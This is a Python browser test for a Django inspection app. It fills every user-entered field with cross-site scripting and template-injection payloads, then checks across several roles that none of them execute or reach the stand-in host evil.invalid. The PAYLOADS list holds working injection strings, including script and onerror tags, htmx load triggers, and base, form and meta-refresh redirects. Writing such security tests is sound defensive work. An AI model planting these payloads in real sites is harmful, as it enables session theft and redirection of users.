"""Texts that try to be more than text, in every field that people fill in, opened in Chromium by several roles (trust 54)."""

import datetime as dt
import hashlib
import re
from html import unescape

import pytest

from common import clock
from inspections.models import SavedView
from rectification.models import TaskPhoto
from rectification.services import advance
from scripts.screens import pages
from scripts.screens.walk import OF_PERSON
from tests.browser.lives import Lives
from tests.factories.accounts import UserFactory
from tests.factories.notices import NoticeFactory
from tests.factories.sheets import JobFactory

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser, pytest.mark.slow]
ROLES = ("office", "town", "member", "director")
LINK = re.compile(r'<a\b[^>]*?href="([^"]+)"')
PAYLOADS = [
    "<script data-xss>alert(1)</script>",
    "<img src=x onerror=alert(1) data-xss>",
    '"><svg onload=alert(1) data-xss>',
    "'><b data-xss onmouseover=alert(1)>",
    '<a data-xss href="javascript:alert(1)">a</a>',
    "{{7*7}}<i data-xss>{% debug %}",
    '<div data-xss hx-get="/accounts/" hx-trigger="load">',
    '<div data-xss hx-on:load="alert(1)">',
    "</textarea><script data-xss>alert(1)</script>",
    "</title><script data-xss>alert(1)</script>",
    "</script><script data-xss>alert(1)</script>",
    "--><script data-xss>alert(1)</script>",
    "]]><script data-xss>alert(1)</script>",
    '<iframe data-xss srcdoc="<script>alert(1)</script>">',
    "<style data-xss>*{display:none}</style>",
    '<base data-xss href="//evil.invalid/">',
    '<form data-xss action="//evil.invalid"><button>',
    '<meta data-xss http-equiv=refresh content="0;url=//evil.invalid">',
    "\u202e<u data-xss>txt.exe",
    "<math data-xss><mtext><img src=x onerror=alert(1)>",
    "\\u003cimg data-xss src=x onerror=alert(1)\\u003e",
    "`${alert(1)}`<s data-xss>",
]


@pytest.fixture
def lives():
    made = Lives()
    for number, payload in enumerate(PAYLOADS):
        finding = made.assigned(text=payload, address=payload, code=("bare-ground", "site-six")[number % 2])
        task = advance(finding.tasks.get(role="territorial"), "accept", by=made.people["town"], note=payload)
        advance(task, "progress", by=made.people["town"], note=payload)
        SavedView.objects.create(user=made.people["office"], page="ledger", name=payload[:30], query="state=assigned")
        NoticeFactory(recipient=made.people["office"], title=payload[:200], body=payload, state="sent")
        JobFactory(requested_by=made.people["office"], title=payload[:120], district_id=made.district.pk, message=payload, error=payload)
        UserFactory(name=payload[:40], member=made.district.villages[number % 2])
    hostile_request(made)
    hostile_names(made)
    return made


def hostile_request(made) -> None:
    task = made.accepted()
    advance(task, "suspend", by=made.people["town"], note=PAYLOADS[1], wanted_at=clock.now() + dt.timedelta(days=9))
    made.fed_back()
    TaskPhoto.objects.update(flags=[{"code": "reused", "answer": PAYLOADS[1], "by": PAYLOADS[2], "answered_at": clock.now().isoformat()}])


def hostile_names(made) -> None:
    """Names of everything in the district."""
    from grids.models import Field, Grid, Organisation
    from inspections.models import ProblemType

    for model, columns in (
        (Organisation, ("name", "short_name")),
        (Field, ("name",)),
        (ProblemType, ("name", "closing_condition")),
        (Grid, ("name",)),
    ):
        for number, row in enumerate(model.objects.order_by("pk")):
            payload = PAYLOADS[number % len(PAYLOADS)]
            values = {column: payload[: min(model._meta.get_field(column).max_length, 38) - 4] + str(number) for column in columns}
            model.objects.filter(pk=row.pk).update(**values)


def test_no_text_becomes_more_than_text(lives, new_context, sign_in):
    alarms, opened = [], set()
    for role in ROLES:
        page = watched(new_context().new_page(), alarms)
        sign_in(page, lives.people[role])
        assert walked(page, opened) > 15, role
        page.close()

    assert alarms == []


def watched(page, alarms: list[str]):
    page.on("dialog", lambda dialog: (alarms.append(f"{page.url}: {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: alarms.append(request.url) if "evil.invalid" in request.url else None)
    return page


def walked(page, opened: set[str]) -> int:
    """How many pages the role can open; one that says what another role was shown is not opened in the browser again."""
    queue, count = pages.Queue(), 0
    for kind, path in pages.without_object():
        queue.add(path, kind=kind, linked=False)
    while step := queue.take():
        html = html_of(page, step[2])
        if html is None:
            continue
        count += 1
        links = [unescape(link) for link in LINK.findall(html)]
        same = hashlib.sha256(OF_PERSON.sub("", html).encode()).hexdigest()
        if same not in opened:
            opened.add(same)
            links += looked_over(page, step)
        for link in links:
            queue.add(link)
    return count


def html_of(page, path: str) -> str | None:
    answer = page.request.get(path, max_redirects=0)
    is_page = answer.status == 200 and answer.headers.get("content-type", "").startswith("text/html")
    html = answer.text() if is_page else ""
    return html if "<html" in html[:600].lower() else None


def looked_over(page, step) -> list[str]:
    """The links, those that scripts have made among them."""
    assert page.goto(step[2]).status == 200
    assert page.locator("[data-xss]").count() == 0, step
    assert page.evaluate("document.querySelectorAll('[hx-on\\\\:load], base, iframe[srcdoc]').length") == 0, step
    links = page.eval_on_selector_all("a[href]", "(all) => all.map((each) => each.href)")
    assert [link for link in links if link.startswith("javascript:")] == [], step
    return links
